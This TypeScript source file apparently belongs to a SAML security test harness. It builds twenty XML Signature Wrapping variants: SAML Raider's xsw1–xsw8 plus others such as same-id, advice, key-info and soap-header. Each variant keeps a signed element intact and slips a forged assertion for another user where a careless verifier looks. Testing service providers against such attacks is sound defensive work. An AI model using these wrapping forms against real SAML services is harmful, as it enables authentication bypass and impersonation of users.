import { SIGNATURE_NAMESPACE } from "../saml/names.ts";
import {
  afterIssuer,
  beforeEnd,
  forge,
  type SignedElement,
  type WrapParts,
  wrapParts,
} from "./wrap-parts.ts";

const FORGED = "_forged";
const SOAP = "http://schemas.xmlsoap.org/soap/envelope/";

/** The signature of the signed one around something more. */
function signatureAround({ signature }: SignedElement, text: string): string {
  return beforeEnd(signature, "ds:Signature", text);
}

/** Writes the response again, with these elements in the place of its assertion. */
function around({ before, after }: WrapParts, ...assertions: readonly string[]): string {
  return `${before}${assertions.join("")}${after}`;
}

/** A forged assertion in the place of the real one. */
function instead(parts: WrapParts, change: (forged: string) => string): string {
  return around(parts, change(forge(parts.assertion.signed, FORGED)));
}

/** A forged response in the place of the real one; the assertion in it is forged too. */
function forgedResponse({ before, assertion, after, response }: WrapParts): string {
  const outside = before.replace(response.signature, "");
  const renamed = `${outside}${after}`.replace(` ID="${response.id}"`, ` ID="${FORGED}"`);
  const at = renamed.length - after.length;
  return `${renamed.slice(0, at)}${forge(assertion.signed, "_forged-assertion")}${renamed.slice(at)}`;
}

function inAttribute(text: string): string {
  return `<saml:Attribute Name="note"><saml:AttributeValue>${text}</saml:AttributeValue></saml:Attribute>`;
}

function object(text: string): string {
  return `<ds:Object xmlns:ds="${SIGNATURE_NAMESPACE}">${text}</ds:Object>`;
}

type Form = (parts: WrapParts, own: SignedElement, forged: string) => string;

/**
 * Where the forged one goes, and where the signed one goes. Numbers as in SAML Raider: 1 and 2 for a signed Response, 3
 * to 8 for a signed Assertion.
 */
const FORMS = {
  xsw1: (parts) => afterIssuer(forgedResponse(parts), signatureAround(parts.response, parts.response.bare)),
  xsw2: (parts) => afterIssuer(forgedResponse(parts), `${parts.response.bare}${parts.response.signature}`),
  xsw3: (parts, own, forged) => around(parts, forged, own.signed),
  xsw4: (parts, own) => instead(parts, (forged) => beforeEnd(forged, "saml:Assertion", own.signed)),
  xsw5: (parts, own, forged) => around(parts, afterIssuer(forged, own.signature), own.bare),
  xsw6: (parts, own, forged) => around(parts, afterIssuer(forged, signatureAround(own, own.bare))),
  xsw7: (parts, own, forged) =>
    around(parts, own.signed).replace(
      "<samlp:Status>",
      () => `<samlp:Extensions>${forged}</samlp:Extensions><samlp:Status>`,
    ),
  xsw8: (parts, own, forged) => around(parts, afterIssuer(forged, signatureAround(own, object(own.bare)))),
  "forged-last": (parts, own, forged) => around(parts, own.signed, forged),
  "forged-around": (parts, own, forged) =>
    around(parts, forged, own.signed, forge(own.signed, "_forged-again")),
  "same-id": (parts, own) => around(parts, forge(own.signed, own.id), own.signed),
  "second-id": (parts, own, forged) =>
    around(
      parts,
      forged.replace("<saml:Assertion", () => `<saml:Assertion Id="${own.id}"`),
      own.signed,
    ),
  "xml-id": (parts, own, forged) =>
    around(
      parts,
      forged.replace("<saml:Assertion", () => `<saml:Assertion xml:id="${own.id}"`),
      own.signed,
    ),
  advice: (parts, own) =>
    instead(parts, (forged) =>
      forged.replace("</saml:Conditions>", (end) => `${end}<saml:Advice>${own.signed}</saml:Advice>`),
    ),
  "confirmation-data": (parts, own) =>
    instead(parts, (forged) =>
      forged.replace(
        /(<saml:SubjectConfirmationData[^>]*)\/>/,
        (_all, open: string) => `${open}>${own.signed}</saml:SubjectConfirmationData>`,
      ),
    ),
  "attribute-value": (parts, own) =>
    instead(parts, (forged) => beforeEnd(forged, "saml:AttributeStatement", inAttribute(own.signed))),
  "status-detail": (parts, own, forged) =>
    beforeEnd(
      around(parts, own.signed),
      "samlp:Status",
      `<samlp:StatusDetail>${forged}</samlp:StatusDetail>`,
    ),
  "key-info": (parts, own, forged) =>
    around(parts, afterIssuer(forged, beforeEnd(own.signature, "ds:KeyInfo", own.bare))),
  "foreign-element": (parts, own, forged) =>
    around(parts, forged, `<box xmlns="urn:example:box">${own.signed}</box>`),
  "soap-header": (parts) =>
    `<soap:Envelope xmlns:soap="${SOAP}"><soap:Header>${parts.response.signed}</soap:Header>` +
    `<soap:Body>${forgedResponse(parts)}</soap:Body></soap:Envelope>`,
} as const satisfies Readonly<Record<string, Form>>;

/** Name of a way to wrap. */
type WrapForm = keyof typeof FORMS;

/** Every way to wrap a signed response or assertion, by name. */
export const WRAP_FORMS = [
  "xsw1",
  "xsw2",
  "xsw3",
  "xsw4",
  "xsw5",
  "xsw6",
  "xsw7",
  "xsw8",
  "forged-last",
  "forged-around",
  "same-id",
  "second-id",
  "xml-id",
  "advice",
  "confirmation-data",
  "attribute-value",
  "status-detail",
  "key-info",
  "foreign-element",
  "soap-header",
] as const satisfies readonly WrapForm[];

/**
 * Wraps a signed response: the signed element stays whole somewhere, so that its signature holds, and a forged one for
 * another user stands where a careless reader looks.
 *
 * @throws HarnessError when there is no assertion
 * @see Somorovsky et al., On Breaking SAML, 2012
 */
export function wrap(xml: string, form: WrapForm): string {
  const parts = wrapParts(xml);
  const write: Form = FORMS[form];
  return write(parts, parts.assertion, forge(parts.assertion.signed, FORGED));
}
